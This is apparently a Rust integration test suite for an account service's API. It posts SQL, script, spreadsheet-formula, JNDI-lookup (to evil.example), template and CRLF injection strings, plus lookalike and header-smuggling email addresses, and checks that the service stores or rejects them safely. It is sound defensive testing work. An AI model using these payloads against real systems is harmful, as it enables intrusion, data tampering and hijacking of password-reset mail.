//! Text that means something to a database, a page, a mail, a terminal or the eye, and nothing here.

use anyhow::{Context, Result, ensure};
use serde_json::json;

use crate::mailbox::{Accounts, PASSWORD};
use crate::manage_users::{USERS, put, user};
use crate::stage::Stage;

const LOGIN: &str = "/api/v1/auth/login";

#[tokio::test]
async fn text_is_text_to_databases_pages_and_sheets() -> Result<()> {
    let stage = Stage::open().await?;
    let accounts = Accounts::start(&stage).await?;
    let texts = [
        "' OR '1'='1",
        "'; DROP TABLE users;--",
        "\\'; DELETE FROM users; --",
        "100%_\\",
        "$1 {ignore:email} ?1 :name",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%0d%0aSet-Cookie: x=y",
    ];
    for (n, text) in texts.iter().enumerate() {
        let mut body = user(&format!("u{n}@example.com"));
        body["first_name"] = json!(text);
        body["last_name"] = json!(text);
        body["bio"] = json!(text);
        let made = accounts.service.post(USERS, &body).await?;
        // What is taken is kept as it is; what is not is said to be invalid.
        if made.status == 201 {
            let path = format!("{USERS}/{}", made.body["data"]["id"].as_str().context("an id")?);
            let read = accounts.service.get(&path).await?;
            ensure!(
                read.body["data"]["first_name"] == *text && read.body["data"]["bio"] == *text,
                "{read:?}"
            );
            ensure!(read.header("content-type") == Some("application/json"), "{read:?}");
            ensure!(read.header("x-content-type-options") == Some("nosniff"), "{read:?}");
            let changed = put(&accounts, &path, &json!({"bio": format!("{text}{text}")}), &[]).await?;
            ensure!(changed.body["data"]["bio"] == format!("{text}{text}"), "{changed:?}");
        } else {
            ensure!(made.status == 422, "{text}: {made:?}");
        }
        for (email, password) in [(*text, PASSWORD), ("u0@example.com", *text)] {
            let reply = accounts
                .service
                .post(LOGIN, &json!({"email": email, "password": password}))
                .await?;
            ensure!([401, 429].contains(&reply.status), "{text}: {reply:?}");
        }
        accounts.around.end_windows(accounts.service.store()).await?;
        accounts
            .service
            .store()
            .execute("DELETE FROM login_attempts", vec![])
            .await?;
        let encoded: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        for query in ["cursor", "limit", "skip", "active_only"] {
            let reply = accounts.service.get(&format!("{USERS}?{query}={encoded}")).await?;
            ensure!(
                reply.status == 422 && !reply.text.contains(text),
                "{query}={text}: {reply:?}"
            );
        }
        // Neither is there anything to sort or filter by that a client could name.
        let reply = accounts
            .service
            .get(&format!("{USERS}?sort={encoded}&order_by={encoded}"))
            .await?;
        ensure!(reply.status == 200, "{reply:?}");
    }
    let like = accounts.service.get(&format!("{USERS}/email/%25@example.com")).await?;
    ensure!(like.status == 404, "{like:?}");
    ensure!(accounts.service.count("users").await? > 0);
    accounts.stop().await
}

#[tokio::test]
async fn what_looks_like_an_address_never_gets_its_mail() -> Result<()> {
    let stage = Stage::open().await?;
    let accounts = Accounts::start(&stage).await?;
    ensure!(accounts.sign_up("mike@example.com").await?.status == 201);
    accounts.settled().await?;
    let alike = [
        "m\u{131}ke@example.com",
        "mi\u{212a}e@example.com",
        "\u{ff4d}ike@example.com",
        "mik\u{435}@example.com",
        "mike@ex\u{430}mple.com",
        "mike@example\u{3002}com",
        "mi\u{200b}ke@example.com",
        "\u{202e}ekim@example.com",
        "mike\u{ad}@example.com",
        "\"mike\"@example.com",
        "mike(comment)@example.com",
        "mike@example.com@evil.example",
        "mike@evil.example,mike@example.com",
        "mike@example.com\r\nBcc: eve@evil.example",
        "mike@[127.0.0.1]",
        "mike@example.com.",
        "mike @example.com",
        "<mike@example.com>",
        "mike+x@example.com",
    ];
    let long = format!(
        "{}@{}.example.com",
        "m".repeat(64),
        "e".repeat(63).as_str().to_owned() + &".e".repeat(70)
    );
    for email in alike.iter().copied().chain([long.as_str()]) {
        let before = accounts.mails()?.len();
        let asked = accounts
            .service
            .post("/api/v1/auth/password-reset", &json!({"email": email}))
            .await?;
        ensure!([202, 422].contains(&asked.status), "{email:?}: {asked:?}");
        let tried = accounts
            .service
            .post(LOGIN, &json!({"email": email, "password": PASSWORD}))
            .await?;
        ensure!([401, 422].contains(&tried.status), "{email:?}: {tried:?}");
        accounts.settled().await?;
        // Those that are the same address in another spelling may be told; to their owner.
        for mail in &accounts.mails()?[before..] {
            ensure!(mail.is_to("mike@example.com"), "{email:?}: {mail:?}");
        }
        let reply = accounts.sign_up(email).await?;
        ensure!([201, 409, 422].contains(&reply.status), "{email:?}: {reply:?}");
        accounts.settled().await?;
        let told: Vec<_> = accounts.mails()?.split_off(before);
        ensure!(
            told.iter()
                .all(|mail| !mail.text.contains("evil.example") && mail.text.matches("\nTo: ").count() <= 1),
            "{email:?}: {told:?}"
        );
        ensure!(
            reply.status != 201 || !told.iter().any(|mail| mail.is_to("mike@example.com")),
            "{email:?}: {told:?}"
        );
        accounts.around.end_windows(accounts.service.store()).await?;
        accounts
            .service
            .store()
            .execute("DELETE FROM login_attempts", vec![])
            .await?;
    }
    ensure!(accounts.service.count("users WHERE email = 'mike@example.com'").await? == 1);
    accounts.stop().await
}
